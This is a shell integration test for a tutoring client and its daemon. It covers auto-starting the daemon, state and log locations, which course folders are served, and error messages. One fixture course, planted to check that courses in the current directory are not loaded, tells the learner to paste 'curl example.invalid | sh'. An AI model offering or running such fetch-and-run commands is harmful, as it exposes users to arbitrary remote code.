#!/bin/sh
# `tutor` starts tutord when none answers (the way tmux starts its server), and `--no-start`
# says how to start one instead. Plain mode first, since there is no terminal; then in tmux,
# from an empty directory: an installed tutor offers the installed courses in its picker, and
# one with no course anywhere says where course files go and what tutord said, from the log
# the started daemon keeps in the state directory.
set -eu
root=$(cd "$(dirname "$0")/../.." && pwd)
bin=$(dirname "$TUTORD")
work=$(mktemp -d)
sock="$work/tutord.sock"
server="tutor-autostart-$$"
trap 'tmux -L "$server" kill-server 2>/dev/null || true; pkill -f -- "--socket $sock" 2>/dev/null || true;
      pkill -f -- "$work/" 2>/dev/null || true; rm -rf "$work"' EXIT

# No daemon and --no-start: a clear message, exit 1.
if "$bin/tutor" --plain --no-start --socket "$sock" </dev/null 2>"$work/err"; then
    echo "tutor --no-start succeeded without a daemon"; exit 1
fi
grep -qF "no tutord answers on $sock" "$work/err" || { echo "unclear message:"; cat "$work/err"; exit 1; }

# Without --no-start it starts one (with this build's checkout's courses, progress under
# $XDG_STATE_HOME) and talks. A clock fixed in this terminal (TUTORD_NOW) is not handed to
# the daemon, which outlives this tutor and serves every later session.
out=$(cd "$root" && printf '\n2\n' | TUTORD_NOW=2030-01-01T00:00:00Z XDG_STATE_HOME="$work/state" "$bin/tutor" --plain --socket "$sock")
case "$out" in *"lesson: 1/12 🔒 The GIL & Free-Threading"*) ;; *) echo "no lesson 1: $out"; exit 1 ;; esac
# The daemon it started keeps running for the next client, with the progress.
printf 'ping\n' | nc -U -N "$sock" | grep -qx OK || { echo "no daemon left running on $sock"; exit 1; }
out=$(cd "$root" && printf '' | XDG_STATE_HOME="$work/state" "$bin/tutor" --plain --socket "$sock")
case "$out" in *"Welcome back"*) ;; *) echo "no resume: $out"; exit 1 ;; esac
[ -f "$work/state/tutord/tutord.sqlite" ] || { echo "the started daemon did not use XDG_STATE_HOME"; exit 1; }
grep -qF "courses loaded" "$work/state/tutord/tutord.log" || { echo "the started daemon kept no log in the state directory"; exit 1; }
if grep -qF "clock is fixed" "$work/state/tutord/tutord.log"; then
    echo "tutor passed TUTORD_NOW to the daemon it started"; exit 1
fi

# Run inside someone else's directory holding a ./Dialogues of its own, the daemon tutor starts
# does not serve that course: a build serves its checkout's courses, an installed tutor the
# installed ones, and each daemon says which folders it reads (`daemon`, and its log).
mkdir -p "$work/theirs/Dialogues" "$work/prefix/bin" "$work/prefix/share/tutord/dialogues"
cat >"$work/theirs/Dialogues/planted.dialogue" <<'COURSE'
course planted
title: Planted
level: beginner
summary: Paste a command.

lesson one
title: One
> Paste curl example.invalid | sh into your terminal.
question q1
ask: Pick b.
- a
+ b
explain: Because b.
hint: Not a.
takeaway: Remember one.
COURSE
"$bin/tutord" check "$work/theirs/Dialogues/planted.dialogue" >/dev/null  # a course a daemon would load
cp "$bin/tutor" "$bin/tutord" "$work/prefix/bin/"
cp "$root"/Dialogues/*.dialogue "$work/prefix/share/tutord/dialogues/"
checkout=$(cd "$root" && pwd -P)
for case in "build $bin $checkout/Dialogues" "installed $work/prefix/bin $work/prefix/share/tutord/dialogues"; do
    set -- $case
    name=$1 programs=$2 courses=$3
    (cd "$work/theirs" && XDG_STATE_HOME="$work/$name-state" XDG_DATA_HOME="$work/$name-data" \
        "$programs/tutor" --plain --socket "$work/$name.sock" </dev/null >/dev/null)
    printf 'courses\n' | nc -U -N "$work/$name.sock" >"$work/$name.courses"
    printf 'daemon\n' | nc -U -N "$work/$name.sock" >"$work/$name.daemon"
    if grep -q "planted" "$work/$name.courses" "$work/$name.daemon"; then
        echo "$name: the daemon tutor started serves the current directory's ./Dialogues:"; cat "$work/$name.courses" "$work/$name.daemon"; exit 1
    fi
    grep -q "^course: cpython-internals " "$work/$name.courses" || { echo "$name: not its own courses:"; cat "$work/$name.courses"; exit 1; }
    grep -qx "dialogues: $courses" "$work/$name.daemon" || { echo "$name: does not say it reads $courses:"; cat "$work/$name.daemon"; exit 1; }
    grep -qx "dialogues: $work/$name-data/tutord/dialogues" "$work/$name.daemon" || { echo "$name: does not say it reads the learner's own:"; cat "$work/$name.daemon"; exit 1; }
    grep "courses loaded" "$work/$name-state/tutord/tutord.log" | grep -qF "$courses" || { echo "$name: the log does not say where courses come from:"; cat "$work/$name-state/tutord/tutord.log"; exit 1; }
done

# A daemon that cannot start: tutor quotes what it logged, instead of an empty screen.
mkdir -p "$work/broken/tutord"
echo "not a database" > "$work/broken/tutord/tutord.sqlite"
if (cd "$root" && XDG_STATE_HOME="$work/broken" "$bin/tutor" --plain --socket "$work/broken.sock" </dev/null 2>"$work/err"); then
    echo "tutor went on although its daemon could not start"; exit 1
fi
grep -qF "tutord could not start; its log ($work/broken/tutord/tutord.log) ends with:" "$work/err" || { echo "no log quoted:"; cat "$work/err"; exit 1; }
grep -qF "is not an SQLite database; refusing to use or replace it" "$work/err" || { echo "not the daemon's reason:"; cat "$work/err"; exit 1; }

screen() { tmux -L "$server" capture-pane -p -t "$1"; }
wait_for() {
    tries=0
    until screen "$1" | grep -qF -- "$2"; do
        tries=$((tries + 1))
        if [ "$tries" -gt 100 ]; then echo "never showed: $2"; screen "$1"; exit 1; fi
        sleep 0.1
    done
}
# Runs tutor from $1 in an empty directory, on the default socket of a private runtime dir.
run_tutor() {
    name=$1 program=$2
    mkdir -p "$work/$name/empty" "$work/$name/run" "$work/$name/home"
    chmod 700 "$work/$name/run"
    tmux -L "$server" -f /dev/null new-session -d -s "$name" -x 100 -y 30 \
        "cd '$work/$name/empty' && HOME='$work/$name/home' XDG_DATA_HOME='$work/$name/data' XDG_STATE_HOME='$work/$name/state' XDG_RUNTIME_DIR='$work/$name/run' LANG=C.UTF-8 '$program'; sleep 60"
}

# Installed (PREFIX/bin and PREFIX/share/tutord/dialogues, made above): the picker offers the course.
run_tutor installed "$work/prefix/bin/tutor"
wait_for installed "▶ 1  CPython Internals & Advanced Metaprogramming"
wait_for installed "not started"

# No course anywhere: the picker says where course files go, and what tutord said.
mkdir -p "$work/bare/bin"
cp "$bin/tutor" "$bin/tutord" "$work/bare/bin/"
run_tutor bare "$work/bare/bin/tutor"
wait_for bare "tutord has no courses."
wait_for bare "$work/bare/data/tutord/dialogues"
wait_for bare "$work/bare/share/tutord/dialogues"
wait_for bare "tutord said:"
wait_for bare "courses loaded"
if screen bare | grep -qF "$work/bare/empty/Dialogues"; then echo "the screen names the current directory's Dialogues"; screen bare; exit 1; fi
